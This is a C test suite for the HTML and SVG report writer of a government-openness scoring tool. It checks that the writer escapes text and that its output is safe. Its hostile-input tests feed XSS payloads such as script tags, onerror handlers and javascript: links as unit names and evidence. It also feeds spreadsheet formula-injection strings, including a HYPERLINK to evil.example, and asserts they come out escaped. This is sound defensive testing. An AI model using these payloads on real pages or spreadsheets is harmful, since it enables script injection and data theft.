/* The HTML report (lib/report/html.c, lib/report/svg.c): its golden file on
 * the Langao sample, HTML escaping byte by byte, the charts' structure and
 * layout (rows, ticks, cut labels), hostile names, reasons and evidence
 * (only our own tags, no event attribute, no link but http(s) and the
 * page's anchors), any piece size, a result that keeps no reasons, a write
 * callback failing at every call, and misuse. That a browser draws it
 * legibly is tests/browser/'s to check. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "eval/eval.h"
#include "report/html.h"
#include "report/out.h"
#include "report/svg.h"
#include "report_support.h"
#include "testutil.h"

/* The page through pieces of `chunk` bytes; NULL on failure. free() it. */
static char *write_html(const govopen_result *r, unsigned flags, size_t chunk, size_t *len) {
  sink s = {0};
  int rc = gv_result_write_html(r, flags, chunk, sink_write, &s);
  return sink_text(&s, rc, chunk, len);
}

static size_t count(const char *text, const char *what) {
  size_t n = 0;
  for (const char *p = strstr(text, what); p; p = strstr(p + 1, what)) n++;
  return n;
}

/* The elements the writer makes; anything else would come from the input. */
static int known_tag(const char *name, size_t n) {
  static const char *const tags[] = {"!DOCTYPE", "html", "head", "meta", "title",  "style", "body", "header",  "h1",
                                     "h2",       "h3",   "h4",   "p",    "nav",    "a",     "main", "section", "table",
                                     "tr",       "th",   "td",   "span", "figure", "svg",   "text", "rect",    "line",
                                     "g",        "ul",   "li",   "div",  "footer", "br"};
  for (size_t i = 0; i < sizeof tags / sizeof tags[0]; i++)
    if (strlen(tags[i]) == n && memcmp(tags[i], name, n) == 0) return 1;
  return 0;
}

/* What no page may hold, whatever its input: an element we do not make, an
   event handler attribute, a link that is neither one of the page's
   anchors nor http(s), a control character but LF. The style sheet is ours
   and skipped. */
static void check_safe(const char *text) {
  const char *style = strstr(text, "<style>"), *style_end = style ? strstr(style, "</style>") : NULL;
  CU_ASSERT_PTR_NOT_NULL(style_end);
  for (const char *p = text; *p; p++) {
    CU_ASSERT((unsigned char)*p >= 0x20 || *p == '\n');
    if (*p != '<') continue;
    if (style && p > style && p < style_end) continue;
    const char *name = p + 1 + (p[1] == '/');
    size_t n = strspn(name, "!ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789");
    CU_ASSERT(known_tag(name, n));
    if (!known_tag(name, n)) fprintf(stderr, "unknown element: %.40s\n", p);
    const char *end = strchr(p, '>');
    CU_ASSERT_PTR_NOT_NULL_FATAL(end);
    /* within the tag: no on…= attribute, every href ours or http(s) */
    for (const char *a = p; a < end; a++) {
      if (a[0] == ' ' && a[1] == 'o' && a[2] == 'n' && strspn(a + 3, "abcdefghijklmnopqrstuvwxyz") > 0) {
        const char *eq = a + 3 + strspn(a + 3, "abcdefghijklmnopqrstuvwxyz");
        CU_ASSERT(*eq != '=');
      }
      if (strncmp(a, " href=\"", 7) == 0) {
        const char *v = a + 7;
        CU_ASSERT(v[0] == '#' || strncmp(v, "http://", 7) == 0 || strncmp(v, "https://", 8) == 0);
      }
    }
  }
  CU_ASSERT_PTR_NULL(strstr(text, "javascript:alert(1)\""));
  CU_ASSERT_EQUAL(count(text, "<html"), 1);
  CU_ASSERT_EQUAL(count(text, "<svg"), count(text, "</svg>"));
  CU_ASSERT_EQUAL(count(text, "<section"), count(text, "</section>"));
  CU_ASSERT_EQUAL(count(text, "<table"), count(text, "</table>"));
}

static void test_escape(void) {
  static const struct {
    const char *in, *out;
  } cases[] = {
      {"plain 中文", "plain 中文"},
      {"", ""},
      {"<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"},
      {"a&amp;b", "a&amp;amp;b"},
      {"\"quotes\" 'single'", "&quot;quotes&quot; &#39;single&#39;"},
      {"line\nbreak\r\ttab", "line break  tab"},
      {"ls\xe2\x80\xa8ps\xe2\x80\xa9"
       "c1\xc2\x85"
       "del\x7f",
       "ls ps c1 del "},
      {"\\`*_|#[x](y)", "\\`*_|#[x](y)"},
  };
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    gv_buf b = {0};
    gv_html_text(&b, cases[i].in, strlen(cases[i].in));
    CU_ASSERT_STRING_EQUAL(gv_buf_str(&b), cases[i].out);
    if (strcmp(gv_buf_str(&b), cases[i].out) != 0) fprintf(stderr, "escape %zu: %s\n", i, gv_buf_str(&b));
    gv_buf_free(&b);
  }
}

static void test_text_width(void) {
  CU_ASSERT_EQUAL(gv_svg_text_width("", 0), 0);
  CU_ASSERT_EQUAL(gv_svg_text_width("abc", 3), 180);
  CU_ASSERT_EQUAL(gv_svg_text_width("城关镇", strlen("城关镇")), 300);
  CU_ASSERT_EQUAL(gv_svg_text_width("（一）", strlen("（一）")), 300); /* full-width */
  CU_ASSERT_EQUAL(gv_svg_text_width("ABC", 3), 210);
  CU_ASSERT_EQUAL(gv_svg_text_width("Wm@", 3), 270);
  CU_ASSERT_EQUAL(gv_svg_text_width("é·", strlen("é·")), 140);    /* two-byte: narrow */
  CU_ASSERT_EQUAL(gv_svg_text_width("\xe1\x83\x90", 3), 70);      /* U+10D0, before U+1100 */
  CU_ASSERT_EQUAL(gv_svg_text_width("\xe2\x80\xa6", 3), 100);     /* U+2026: full-width in CJK fonts */
  CU_ASSERT_EQUAL(gv_svg_text_width("\xf0\x9f\x98\x80", 4), 100); /* an emoji */
  CU_ASSERT_EQUAL(gv_svg_text_width("\xe5\x9f", 2), 100);         /* cut short: counted, not overrun */
}

/* A chart of three bars, one of them with a label longer than its column. */
static void test_chart(void) {
  gv_svg_bar bars[3] = {
      {"短", 1, 1, 9050, -1, -1, 0, NULL},
      {"一个名字非常非常非常非常非常非常长的单位", 2, 1, 7000, -1, -1, 1, "（一票否决）"},
      {"未评估的单位", 0, 0, 0, -1, -1, 0, NULL},
  };
  gv_svg_chart c = {.id = "t",
                    .title = "标题 <b>",
                    .value_axis = "总分",
                    .label_axis = "单位",
                    .label_class = "unit-label",
                    .legend = {NULL, NULL, NULL},
                    .empty = "未评估",
                    .lo = 0,
                    .hi = 10000};
  gv_buf b = {0};
  gv_svg_hbar(&b, &c, bars, 3);
  const char *s = gv_buf_str(&b);
  /* the label column is 14 em at 13 px: 182 px, after 10 + 22 px */
  CU_ASSERT(strstr(s, "<svg xmlns=\"http://www.w3.org/2000/svg\" class=\"chart\" id=\"t\" role=\"img\" "
                      "aria-labelledby=\"t-title\" width=\"845\" height=\"162\" viewBox=\"0 0 845 162\">\n"
                      "<title id=\"t-title\">标题 &lt;b&gt;</title>\n") == s);
  CU_ASSERT_EQUAL(count(s, "<g class=\"row"), 3);
  CU_ASSERT_EQUAL(count(s, "class=\"unit-label\""), 3);
  /* eleven ticks, 0 … 100 */
  CU_ASSERT_EQUAL(count(s, "class=\"tick\""), 11);
  CU_ASSERT(strstr(s, "<text class=\"tick\" x=\"222\" y=\"131\" text-anchor=\"middle\">0</text>") != NULL);
  CU_ASSERT(strstr(s, "<text class=\"tick\" x=\"702\" y=\"131\" text-anchor=\"middle\">100</text>") != NULL);
  /* 90.5 of 100 over 480 px */
  CU_ASSERT(strstr(s, "<rect class=\"bar-value\" x=\"222\" y=\"42\" width=\"434\" height=\"16\"/>") != NULL);
  /* the long label is cut to 13 characters and a full-width ellipsis; whole in the tooltip */
  CU_ASSERT(strstr(s, ">一个名字非常非常非常非常非…</text>") != NULL);
  CU_ASSERT(strstr(s, "<title>一个名字非常非常非常非常非常非常长的单位：70.00 （一票否决）</title>") != NULL);
  CU_ASSERT(strstr(s, "<a href=\"#unit-1\"><g class=\"row alert\">") != NULL);
  CU_ASSERT(strstr(s, ">未评估</text></g>\n") != NULL);
  CU_ASSERT(strstr(s, "<g class=\"row\"><title>未评估的单位：未评估</title>") != NULL); /* no link: anchor 0 */
  gv_buf_free(&b);
  /* a negative value widens the axis to whole ticks below 0: -20 … 100 by 20 */
  gv_svg_bar neg = {"负", 0, 1, -350, -1, -1, 0, NULL};
  c.lo = -350;
  gv_svg_hbar(&b, &c, &neg, 1);
  s = gv_buf_str(&b);
  CU_ASSERT(strstr(s, "text-anchor=\"middle\">-20</text>") != NULL);
  CU_ASSERT_EQUAL(count(s, "class=\"tick\""), 7);
  gv_buf_free(&b);
}

/* The Langao sample, byte for byte tests/data/html/langao-2023.html
   (written by `govopen report --format html` and read by hand: the county
   total, the towns' ranking, 城关镇's scorecard and P38). */
static void test_golden(void) {
  run x;
  CU_ASSERT_EQUAL_FATAL(run_langao(&x), 0);
  size_t glen = 0, len = 0;
  char *raw = test_read_file(test_path("data/html/langao-2023.html"), NULL);
  CU_ASSERT_PTR_NOT_NULL_FATAL(raw);
  char *golden = golden_expand(raw, x.r, &glen);
  free(raw);
  CU_ASSERT_PTR_NOT_NULL_FATAL(golden);
  char *text = write_html(x.r, 0, 0, &len);
  CU_ASSERT_PTR_NOT_NULL_FATAL(text);
  CU_ASSERT(len == glen && memcmp(text, golden, len) == 0);
  CU_ASSERT(strncmp(text, "<!DOCTYPE html>\n<html lang=\"zh-CN\">\n<head>\n<meta charset=\"utf-8\">\n", 63) == 0);
  CU_ASSERT(strstr(text, "content=\"default-src 'none'; style-src 'unsafe-inline'\"") != NULL);
  CU_ASSERT(strstr(text, "<tr class=\"total\"><th>总分</th><td class=\"num\">99.50</td>") != NULL);
  /* the charts: the indicators, then each kind's ranking */
  CU_ASSERT_EQUAL(count(text, "<svg "), 6); /* five kinds of unit ranked */
  CU_ASSERT(strstr(text, "id=\"chart-indicators\"") != NULL);
  CU_ASSERT(strstr(text, "<title>一、政府信息公开：30.55 / 38.00</title>") != NULL);
  CU_ASSERT(strstr(text, "id=\"chart-ranking-0\"") != NULL);
  CU_ASSERT(strstr(text, "<title id=\"chart-ranking-0-title\">各镇总分排名</title>") != NULL);
  CU_ASSERT(strstr(text, "<title>城关镇：97.24</title>") != NULL);
  CU_ASSERT(strstr(text, "<tr><td class=\"num\">1</td><td><a href=\"#unit-") != NULL);
  /* 城关镇: its section, scorecard and rectification list */
  const char *u = strstr(text, "<section class=\"unit\" id=\"unit-0\">\n<h3>城关镇（chengguan）</h3>\n");
  CU_ASSERT_PTR_NOT_NULL_FATAL(u);
  CU_ASSERT(strstr(u, "<tr class=\"point\"><td>P38 ") != NULL);
  CU_ASSERT(strstr(u, "</td><td class=\"num\">1.17</td><td class=\"num\">2.33</td><td class=\"num\">2.33</td>"
                      "<td>已评分</td></tr>\n") != NULL);
  CU_ASSERT(strstr(u, "<p class=\"item-head\">\n1. P38  失 1.16 分（得 1.17，满分 2.33；总分失 2.76）\n</p>") != NULL);
  CU_ASSERT(strstr(u, "<li>证据：<a href=\"https://www.langao.gov.cn/sample-2023/chengguan/p38/0001.html\" "
                      "rel=\"noopener noreferrer nofollow\">https://www.langao.gov.cn/sample-2023/chengguan/p38/"
                      "0001.html</a>\n") != NULL);
  CU_ASSERT(strstr(text, "</footer>\n</body>\n</html>\n") != NULL);
  check_safe(text);
  /* the public function gives the same bytes */
  sink s = {0};
  CU_ASSERT_EQUAL(govopen_result_write_html(x.r, 0, sink_write, &s), GOVOPEN_OK);
  CU_ASSERT(s.len == len && memcmp(s.data, text, len) == 0);
  sink_free(&s);
  /* English */
  char *en = write_html(x.r, GOVOPEN_REPORT_LANG_EN, 0, NULL);
  CU_ASSERT_PTR_NOT_NULL_FATAL(en);
  CU_ASSERT(strstr(en, "<html lang=\"en\">") != NULL);
  CU_ASSERT(strstr(en, "<tr class=\"total\"><th>Total</th><td class=\"num\">99.50</td>") != NULL);
  CU_ASSERT(strstr(en, "<title id=\"chart-ranking-0-title\">Ranking of the towns by total</title>") != NULL);
  CU_ASSERT(strstr(en, "<title>城关镇: 97.24</title>") != NULL);
  CU_ASSERT(strstr(en, "<p class=\"item-head\">\n1. P38  lost 1.16 (scored 1.17 of 2.33; 2.76 of the total)\n</p>") !=
            NULL);
  check_safe(en);
  free(en);
  free(text);
  free(golden);
  run_free(&x);
}

/* The fixtures' odd and injecting strings, in both languages and any piece
   size: safe, and the same bytes. */
static void test_fixtures(void) {
  int (*runs[])(run *) = {run_odd, run_inject};
  for (size_t k = 0; k < 2; k++) {
    run x;
    CU_ASSERT_EQUAL_FATAL(runs[k](&x), 0);
    for (unsigned flags = 0; flags <= GOVOPEN_REPORT_LANG_EN; flags++) {
      size_t wlen = 0;
      char *whole = write_html(x.r, flags, 0, &wlen);
      CU_ASSERT_PTR_NOT_NULL_FATAL(whole);
      check_safe(whole);
      static const size_t chunks[] = {1, 3, 64};
      for (size_t i = 0; i < 3; i++) {
        size_t plen = 0;
        char *part = write_html(x.r, flags, chunks[i], &plen);
        CU_ASSERT(part != NULL && plen == wlen && memcmp(part, whole, wlen) == 0);
        free(part);
      }
      if (k == 0 && flags == 0) CU_ASSERT(strstr(whole, "县一局 &lt;/script&gt;") != NULL);
      if (k == 1 && flags == 0) {
        CU_ASSERT(strstr(whole, "<title>=cmd|&#39; /C calc&#39;!A0：评估报告</title>") != NULL);
        CU_ASSERT(
            strstr(whole, "<li>证据：=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;点击&quot;)\n") !=
            NULL);
        /* the veto: the unit's total in the alert colour, and said */
        CU_ASSERT(strstr(whole, "<g class=\"row alert\"><title>&#39;已有撇号：0.00 （一票否决）</title>") != NULL);
      }
      free(whole);
    }
    run_free(&x);
  }
}

/* A unit name, reasons and evidence written to attack the page. */
static void test_hostile(void) {
  govopen_framework *fw = NULL;
  CU_ASSERT_EQUAL_FATAL(
      test_load_text("schema: 1\n"
                     "framework: {id: h, title: \"</title><script>alert(1)</script>\", total: 10, year: 2023, "
                     "calendar: cn}\n"
                     "units:\n  - {id: a, name: \"<script>x</script>\\\" onmouseover=\\\"alert(1)\", kind: town}\n"
                     "  - {id: b, name: \"<a href='javascript:alert(1)'>x</a>\", kind: town}\n"
                     "grades:\n  - {name: \"<img src=x onerror=alert(1)>\", min: 0}\n"
                     "indicators:\n  - title: \"<svg onload=alert(1)>\"\n    score: 10\n    points:\n"
                     "      - {id: P1, text: \"<b>文</b>\", score: 5, sampling: [政府网站], responsible: [a, b],\n"
                     "         rule: {kind: boolean}}\n"
                     "      - {id: P2, text: \"]]></text><text>\", score: 5, sampling: [政府网站], "
                     "responsible: [a, b],\n"
                     "         rule: {kind: boolean}}\n",
                     &fw, NULL),
      GOVOPEN_OK);
  govopen_evaluation *ev = NULL;
  govopen_result *r = NULL;
  CU_ASSERT_EQUAL_FATAL(govopen_evaluation_new(&ev, fw, NULL), GOVOPEN_OK);
  CU_ASSERT_EQUAL(govopen_evaluation_set_as_of(ev, "2023-12-15", NULL), GOVOPEN_OK);
  static const char obs[] =
      "{\"unit\": \"a\", \"point\": \"P1\", \"value\": false, \"evidence\": \"javascript:alert(1)\"}\n"
      "{\"unit\": \"a\", \"point\": \"P2\", \"value\": false, \"evidence\": \"https://x.example/a\\\"onclick=\\\"b\"}\n"
      "{\"unit\": \"b\", \"point\": \"P1\", \"value\": false, \"evidence\": \"https://x.example/p q\"}\n"
      "{\"unit\": \"b\", \"point\": \"P2\", \"value\": false, \"evidence\": \"data:text/html,<script>x</script>\"}\n";
  CU_ASSERT_EQUAL_FATAL(govopen_evaluation_add_buffer(ev, obs, sizeof obs - 1, "h.jsonl", GOVOPEN_FORMAT_JSONL, NULL),
                        GOVOPEN_OK);
  CU_ASSERT_EQUAL_FATAL(govopen_evaluation_run(ev, &r, NULL), GOVOPEN_OK);
  for (unsigned flags = 0; flags <= GOVOPEN_REPORT_LANG_EN; flags++) {
    char *text = write_html(r, flags, 0, NULL);
    CU_ASSERT_PTR_NOT_NULL_FATAL(text);
    check_safe(text);
    CU_ASSERT(strstr(text, "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;") != NULL);
    CU_ASSERT(strstr(text, "&lt;script&gt;x&lt;/script&gt;&quot; onmouseover=&quot;alert(1)") != NULL);
    CU_ASSERT(strstr(text, "&lt;a href=&#39;javascript:alert(1)&#39;&gt;x&lt;/a&gt;") != NULL);
    CU_ASSERT(strstr(text, "&lt;img src=x onerror=alert(1)&gt;") != NULL);
    /* evidence that is not a plain http(s) URL is text */
    CU_ASSERT(strstr(text, flags ? "<li>evidence: javascript:alert(1)\n" : "<li>证据：javascript:alert(1)\n") != NULL);
    CU_ASSERT(strstr(text, "https://x.example/a&quot;onclick=&quot;b\n") != NULL);
    CU_ASSERT(strstr(text, "https://x.example/p q\n") != NULL);
    CU_ASSERT(strstr(text, "data:text/html,&lt;script&gt;x&lt;/script&gt;\n") != NULL);
    CU_ASSERT_EQUAL(count(text, "rel=\"noopener noreferrer nofollow\""), 0);
    free(text);
  }
  govopen_result_free(r);
  govopen_evaluation_free(ev);
  govopen_framework_free(fw);
}

/* A result that keeps no reasons: the same bytes. */
static void test_lazy_result(void) {
  int (*runs[])(run *) = {run_langao, run_odd, run_inject};
  for (size_t k = 0; k < 3; k++) {
    run x;
    CU_ASSERT_EQUAL_FATAL(runs[k](&x), 0);
    govopen_result *lazy = NULL;
    CU_ASSERT_EQUAL_FATAL(gv_evaluate(x.ev, 0, &lazy, NULL), GOVOPEN_OK);
    size_t a = 0, b = 0;
    char *kept = write_html(x.r, 0, 0, &a);
    char *rendered = write_html(lazy, 0, 0, &b);
    CU_ASSERT(kept && rendered && a == b && memcmp(kept, rendered, a) == 0);
    free(kept);
    free(rendered);
    govopen_result_free(lazy);
    run_free(&x);
  }
}

typedef struct html_job {
  const govopen_result *r;
  size_t chunk;
} html_job;

static int html_writer(const void *ctx, govopen_write_fn write, void *user) {
  const html_job *j = ctx;
  return gv_result_write_html(j->r, 0, j->chunk, write, user);
}

/* A write callback failing at the k-th call, for every k: GOVOPEN_ESTOPPED at
   once, nothing called after, a prefix written (valgrind: nothing leaked). */
static void test_write_fails(void) {
  run x, y;
  CU_ASSERT_EQUAL_FATAL(run_inject(&x), 0);
  html_job j = {x.r, 256};
  check_fails_at_every_call(html_writer, &j);
  CU_ASSERT_EQUAL_FATAL(run_langao(&y), 0);
  j = (html_job){y.r, 0};
  check_fails_at_every_call(html_writer, &j);
  j.chunk = 4096;
  check_fails_at_every_call(html_writer, &j);
  run_free(&x);
  run_free(&y);
}

static void test_arguments(void) {
  run x;
  CU_ASSERT_EQUAL_FATAL(run_inject(&x), 0);
  sink s = {0};
  CU_ASSERT_EQUAL(govopen_result_write_html(NULL, 0, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_html(x.r, 0, NULL, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_html(x.r, GOVOPEN_CSV_NO_BOM, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(govopen_result_write_html(x.r, ~0u, sink_write, &s), GOVOPEN_EINVALID);
  CU_ASSERT_EQUAL(s.calls, 0);
  sink_free(&s);
  run_free(&x);
}

static const test_case cases[] = {{"html escaping", test_escape},
                                  {"text widths", test_text_width},
                                  {"a bar chart", test_chart},
                                  {"golden report", test_golden},
                                  {"fixtures: odd and injecting strings", test_fixtures},
                                  {"hostile names, reasons and evidence", test_hostile},
                                  {"a result without reasons", test_lazy_result},
                                  {"a write failing at every call", test_write_fails},
                                  {"bad arguments", test_arguments},
                                  {NULL, NULL}};
GV_TEST_SUITE(html, cases);
